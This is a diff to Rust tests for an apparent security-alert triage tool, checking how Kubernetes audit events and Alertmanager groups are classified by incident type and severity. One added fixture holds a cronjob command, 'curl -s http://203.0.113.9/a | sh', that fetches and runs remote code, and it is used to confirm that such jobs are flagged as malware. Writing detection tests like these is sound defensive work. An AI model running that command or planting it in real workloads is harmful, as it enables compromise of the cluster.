@@ -168,7 +168,7 @@ fn kubernetes_requests() {
             ("list secrets eve@corp.example 200", "credential_compromise", Sev3),
             ("list secrets system:serviceaccount:shop:default 200", "credential_compromise", Sev3),
             ("list secrets system:anonymous 200", "credential_compromise", Sev2),
-            ("list secrets system:anonymous 403", "credential_compromise", Sev3),
+            ("list secrets system:anonymous 403", "unauthorized_access", Sev4),
             ("get pods system:anonymous 200", "unauthorized_access", Sev3),
             ("get pods system:anonymous 403", "unauthorized_access", Sev4),
             ("create daemonsets system:anonymous 201", "malware_infection", Sev2),
@@ -182,7 +182,10 @@ fn kubernetes_requests() {
         ],
         audit,
     );
-    let routine = one(&audit("update leases system:node:ip-10-0-3-17 200"));
+    let mut lease = audit("update leases system:node:ip-10-0-3-17 200");
+    assert!(!one(&lease).auto_close, "kubectl with a node's credentials is not the node");
+    lease["userAgent"] = "kubelet/v1.31.2 (linux/amd64) kubernetes/abcdef0".into();
+    let routine = one(&lease);
     assert_eq!((routine.disposition.as_str(), routine.auto_close), ("benign", true));
     assert!(!one(&audit("get pods/exec system:node:ip-10-0-3-17 101")).auto_close, "that is not routine");
 }
@@ -337,4 +340,45 @@ fn security_hub_relays_guardduty_which_is_no_second_source() {
         (fixture("securityhub-guardduty.json").remove(0), fixture("guardduty-command-and-control.json").remove(0));
     assert!(triage::correlates(&relayed, &own).is_some());
     assert!(!triage::are_independent(&relayed, &own));
+}
+
+#[test]
+fn what_workloads_run_and_take() {
+    let mut job = audit("create cronjobs system:serviceaccount:shop:web 201");
+    let container = |command: &str| json!([{ "name": "a", "image": "busybox", "command": ["sh", "-c", command] }]);
+    job["requestObject"] = json!({ "spec": { "jobTemplate": { "spec": { "template": { "spec": { "containers": container("curl -s http://203.0.113.9/a | sh") } } } } } });
+    let persistent = one(&job);
+    assert_eq!((persistent.incident_type.as_str(), persistent.severity), ("malware_infection", Sev2));
+    job["requestObject"]["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"] = container("pg_dump shop");
+    assert_eq!(one(&job).severity, Sev4);
+
+    let mut taken = audit("list secrets system:serviceaccount:shop:web 200 /api/v1/secrets?limit=500");
+    taken["userAgent"] = "curl/8.5.0".into();
+    assert_eq!(one(&taken).severity, Sev2);
+    taken["userAgent"] = "external-secrets/v0.9".into();
+    assert_eq!(one(&taken).severity, Sev3);
+
+    let mut binding = audit("create clusterrolebindings system:serviceaccount:shop:default 201");
+    binding["requestObject"] = json!({ "roleRef": { "kind": "ClusterRole", "name": "cluster-admin" } });
+    assert_eq!(one(&binding).severity, Sev2);
+    binding["user"]["username"] = "system:serviceaccount:gitops:deployer".into();
+    assert_eq!(one(&binding).severity, Sev3);
+}
+
+#[test]
+fn a_group_of_several_names_is_several_alerts() {
+    let alert = |name: &str, rule: &str, instance: &str| json!({ "status": "firing", "fingerprint": name, "startsAt": "2026-11-21T17:40:00Z", "labels": { "alertname": name, "rule": rule, "instance": instance }, "annotations": {} });
+    let group = |alerts: Value, common: Value| json!({ "groupKey": "{}", "status": "firing", "alerts": alerts, "commonLabels": common });
+    let mixed = group(
+        json!([alert("Watchdog", "", "a:1"), alert("falco", "Detect crypto miners using the Stratum protocol", "b:2")]),
+        json!({}),
+    );
+    let taken = normalise(mixed.to_string().as_bytes(), RECEIVED, Context::shipped().unwrap().rules).unwrap();
+    let events: Vec<_> = taken.iter().map(|one| one.alert.event.as_str()).collect();
+    assert_eq!(events, ["Watchdog", "falco"]);
+    let alerts: Vec<_> = taken.iter().map(|one| &one.alert).collect();
+    let got = assess(&alerts, &Context::shipped().unwrap());
+    assert_eq!((got.incident_type.as_str(), got.severity, got.auto_close), ("malware_infection", Sev2, false));
+    let alone = one(&group(json!([alert("Watchdog", "", "a:1")]), json!({ "alertname": "Watchdog" })));
+    assert_eq!((alone.disposition.as_str(), alone.auto_close), ("test", true));
 }
